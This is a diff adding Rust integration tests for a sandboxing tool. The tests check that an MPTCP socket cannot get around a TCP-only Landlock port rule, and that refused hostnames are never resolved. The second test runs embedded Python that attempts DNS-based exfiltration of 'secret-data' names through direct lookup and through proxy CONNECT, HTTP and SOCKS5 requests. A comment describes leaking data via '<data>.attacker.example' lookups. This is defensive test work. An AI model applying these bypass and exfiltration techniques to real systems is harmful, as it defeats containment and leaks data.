@@ -501,3 +501,192 @@ fn held_connections_leave_the_supervisor_descriptors_for_the_guard_and_broker() 
     assert_eq!(rest, "WROTE\nOPENED 0\n");
     assert!(net.fx.ws_dir.join("made-19.txt").exists());
 }
+
+/// Python: a TCP (protocol 0) and an MPTCP (262) connect to `port`, each
+/// printing `PROTO CONNECTED` or `PROTO ERRNO-NAME`.
+fn tcp_and_mptcp_connect(port: u16) -> Vec<String> {
+    vec![
+        PYTHON.into(),
+        "-c".into(),
+        format!(
+            "import socket, errno\n\
+             for proto in (0, 262):\n    \
+                 try:\n        \
+                     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)\n        \
+                     s.settimeout(20)\n        \
+                     s.connect(('127.0.0.1', {port})); print(proto, 'CONNECTED')\n    \
+                 except OSError as e:\n        \
+                     print(proto, errno.errorcode.get(e.errno, e.errno))\n"
+        ),
+    ]
+}
+
+/// Under `--net tcp:PORTS` Landlock refuses TCP connects to other ports,
+/// but Linux 6.18's Landlock checks TCP sockets only: an MPTCP socket's
+/// `connect` passes it to any port (checked here with the filter's
+/// protocol rule removed: connected). The deny filter's protocol rule
+/// (TCP or 0 only) is what refuses it. Control: outside sluice the same
+/// MPTCP connect reaches the port; inside, TCP reaches the listed port.
+#[test]
+fn an_mptcp_connect_never_passes_the_tcp_modes_ports() {
+    let fx = Fixture::new(super::net_hosts::PROBE);
+    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let other = TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let other_port = other.local_addr().unwrap().port();
+    let outside = execute({
+        let mut c = Command::new(PYTHON);
+        c.args(&tcp_and_mptcp_connect(port)[1..]);
+        c
+    });
+    assert_eq!(outside.stdout, "0 CONNECTED\n262 CONNECTED\n", "{outside}");
+    let program = tcp_and_mptcp_connect(port);
+    let out = execute(fx.sluice_command(&["--net", &format!("tcp:{other_port}")], &strs(&program)));
+    assert_eq!(out.stdout, "0 EACCES\n262 EPERM\n", "{out}");
+    let program = tcp_and_mptcp_connect(other_port);
+    let out = execute(fx.sluice_command(&["--net", &format!("tcp:{other_port}")], &strs(&program)));
+    assert_eq!(out.stdout, "0 CONNECTED\n262 EPERM\n", "{out}");
+}
+
+/// A name server on `ip`:53, UDP and TCP, that records every name it is
+/// asked and answers NXDOMAIN.
+fn dns_sink(ip: &str) -> Arc<std::sync::Mutex<Vec<String>>> {
+    fn name_of(q: &[u8]) -> (String, usize) {
+        let (mut at, mut labels) = (12, Vec::new());
+        while at < q.len() && q[at] != 0 {
+            let n = q[at] as usize;
+            let end = (at + 1 + n).min(q.len());
+            labels.push(String::from_utf8_lossy(&q[at + 1..end]).to_lowercase());
+            at += 1 + n;
+        }
+        (labels.join("."), (at + 5).min(q.len()))
+    }
+    fn nxdomain(q: &[u8], end: usize) -> Vec<u8> {
+        let mut r = q[..2].to_vec();
+        r.extend_from_slice(&[0x81, 0x83, 0, 1, 0, 0, 0, 0, 0, 0]);
+        r.extend_from_slice(&q[12..end]);
+        r
+    }
+    let names = Arc::new(std::sync::Mutex::new(Vec::new()));
+    let udp = std::net::UdpSocket::bind((ip, 53)).unwrap();
+    let tcp = TcpListener::bind((ip, 53)).unwrap();
+    let seen = names.clone();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 4096];
+        while let Ok((n, from)) = udp.recv_from(&mut buf) {
+            if n < 12 {
+                continue;
+            }
+            let (name, end) = name_of(&buf[..n]);
+            seen.lock().unwrap().push(name);
+            let _ = udp.send_to(&nxdomain(&buf[..n], end), from);
+        }
+    });
+    let seen = names.clone();
+    std::thread::spawn(move || {
+        for stream in tcp.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let mut len = [0u8; 2];
+            if stream.read_exact(&mut len).is_err() {
+                continue;
+            }
+            let mut q = vec![0u8; u16::from_be_bytes(len) as usize];
+            if stream.read_exact(&mut q).is_err() || q.len() < 12 {
+                continue;
+            }
+            let (name, end) = name_of(&q);
+            seen.lock().unwrap().push(name);
+            let r = nxdomain(&q, end);
+            let mut out = (r.len() as u16).to_be_bytes().to_vec();
+            out.extend_from_slice(&r);
+            let _ = stream.write_all(&out);
+        }
+    });
+    names
+}
+
+/// Python: the program's own lookup of `exfil-own.NAME-data.test`, then
+/// through the proxy a CONNECT, a plain-HTTP request and a SOCKS5 request
+/// naming `exfil-connect...`, `exfil-http...`, `exfil-socks...`, and last
+/// a CONNECT to `control` (which the policy may allow).
+fn lookups(control: &str) -> Vec<String> {
+    vec![
+        PYTHON.into(),
+        "-c".into(),
+        format!(
+            "import socket, struct\n\
+             def proxy(req):\n    \
+                 try:\n        \
+                     s = socket.create_connection(('127.0.0.1', {PROXY_PORT}), timeout=60)\n        \
+                     s.sendall(req); print(s.recv(200)[:12], flush=True); s.close()\n    \
+                 except OSError as e:\n        \
+                     print('proxy', e, flush=True)\n\
+             try:\n    \
+                 socket.getaddrinfo('exfil-own.secret-data.test', 80); print('RESOLVED')\n\
+             except OSError as e:\n    \
+                 print('own lookup', e, flush=True)\n\
+             proxy(b'CONNECT exfil-connect.secret-data.test:443 HTTP/1.1\\r\\n\\r\\n')\n\
+             proxy(b'GET http://exfil-http.secret-data.test/ HTTP/1.1\\r\\n\\r\\n')\n\
+             name = b'exfil-socks.secret-data.test'\n\
+             proxy(b'\\x05\\x01\\x00\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + struct.pack('>H', 443))\n\
+             proxy(b'CONNECT {control}:443 HTTP/1.1\\r\\n\\r\\n')\n"
+        ),
+    ]
+}
+
+/// DNS as a way out: a program that cannot connect could still send data
+/// in the names it has resolved (`<data>.attacker.example` reaches the
+/// attacker's name server through any resolver). Under `none` the
+/// program's own lookup reaches no name server; under the hosts mode
+/// neither does it, and the proxy resolves a name only once a rule (or an
+/// answer) allows it: a refused one, in a CONNECT, a plain-HTTP request or
+/// SOCKS5, or one the person is asked about and denies, is never looked
+/// up. Control: a name a `*.` rule allows is looked up, by the same name
+/// server.
+#[test]
+fn refused_names_are_never_looked_up() {
+    let net = Net::new();
+    let ns = "127.0.0.78";
+    let names = dns_sink(ns);
+    let resolv = net.fx.root().join("sink-resolv.conf");
+    fs::write(
+        &resolv,
+        format!("nameserver {ns}\noptions attempts:1 timeout:5\n"),
+    )
+    .unwrap();
+    let run = |args: &[&str], program: &[String]| {
+        let mut wrapped = Command::new("unshare");
+        wrapped.args(["-m", "--propagation", "private", "--", "sh", "-c"]);
+        wrapped.arg(
+            "mount --bind \"$0\" /etc/resolv.conf && mount --bind \"$1\" /etc/hosts \
+             && shift && exec \"$@\"",
+        );
+        wrapped.arg(&resolv).arg(&net.hosts);
+        execute(around(wrapped, net.fx.sluice_command(args, &strs(program))))
+    };
+    let wild = "--allow-host=*.wild.test:443";
+    let out = run(&[wild], &lookups("control.wild.test"));
+    assert!(out.stdout.contains("own lookup"), "{out}");
+    let out_none = run(&["--net", "none"], &lookups("control.wild.test"));
+    assert!(out_none.stdout.contains("own lookup"), "{out_none}");
+    let policy = net.fx.write_policy(
+        "ask-all.toml",
+        "extends = [\"default\"]\n[network]\nask_hosts = true\n",
+    );
+    let out_ask = run(
+        &["--policy", &policy, "--approve", "deny"],
+        &lookups("x.test"),
+    );
+    assert!(out_ask.stdout.contains("403"), "{out_ask}");
+    let asked = names.lock().unwrap().clone();
+    assert!(
+        !asked.iter().any(|n| n.contains("secret-data")),
+        "names looked up: {asked:?}\n{out}\n{out_none}\n{out_ask}"
+    );
+    // The control: the allowed name was looked up (and is unknown).
+    assert!(
+        asked.iter().any(|n| n == "control.wild.test"),
+        "names looked up: {asked:?}\n{out}"
+    );
+    assert!(out.stdout.contains("HTTP/1.1 502"), "{out}");
+}
